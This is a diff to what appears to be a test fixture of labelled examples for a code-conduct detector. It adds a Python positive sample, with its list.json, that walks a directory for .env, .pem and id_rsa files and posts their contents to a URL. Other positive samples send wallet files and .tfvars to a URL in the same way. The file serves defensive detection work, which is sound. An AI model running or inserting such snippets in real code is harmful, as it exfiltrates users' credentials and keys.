@@ -95,6 +95,11 @@ export const codeConductExamples: FamilyExamples = {
           'const fs = require("fs");\nconst want = [".env", "id_rsa", "wallet.dat"];\nfor (const f of fs.readdirSync(dir)) if (want.includes(f)) parts.push(fs.readFileSync(f));\nfetch(u, { method: "POST", body: parts.join() });\n',
       },
       {
+        "a.py":
+          'import os, fnmatch, json, requests\nkeep = json.load(open("list.json"))["keep"]\nfor d, _, names in os.walk("."):\n    for n in names:\n        if any(fnmatch.fnmatch(n, p) for p in keep):\n            requests.post(u, data=open(n).read())\n',
+        "list.json": '{"keep": [".env", "*.pem", "id_rsa"]}\n',
+      },
+      {
         "a.go":
           'package main\nfunc main() {\n filepath.WalkDir(".", func(p string, d fs.DirEntry, e error) error {\n  for _, s := range []string{".tfvars", ".pem"} {\n   if strings.HasSuffix(p, s) { b, _ := os.ReadFile(p); all = append(all, b...) }\n  }\n  return nil\n })\n http.Post(u, "text/plain", bytes.NewReader(all))\n}\n',
       },
@@ -104,6 +109,11 @@ export const codeConductExamples: FamilyExamples = {
       },
     ],
     negative: [
+      {
+        "a.py":
+          'import os, fnmatch, json, requests\nkeep = json.load(open("list.json"))\nfor d, _, names in os.walk("."):\n    for n in names:\n        if any(fnmatch.fnmatch(n, p) for p in keep):\n            requests.post(u, data=open(n).read())\n',
+        "list.json": '{"exclude": [".env", "*.pem", "id_rsa"], "keep": ["*.md"]}\n',
+      },
       {
         "a.py":
           'import os\nSKIP = (".env", ".pem", "id_rsa")\nfor d, _, names in os.walk("."):\n    for n in names:\n        if n.endswith(SKIP):\n            continue\n        print(open(n).read())\n',
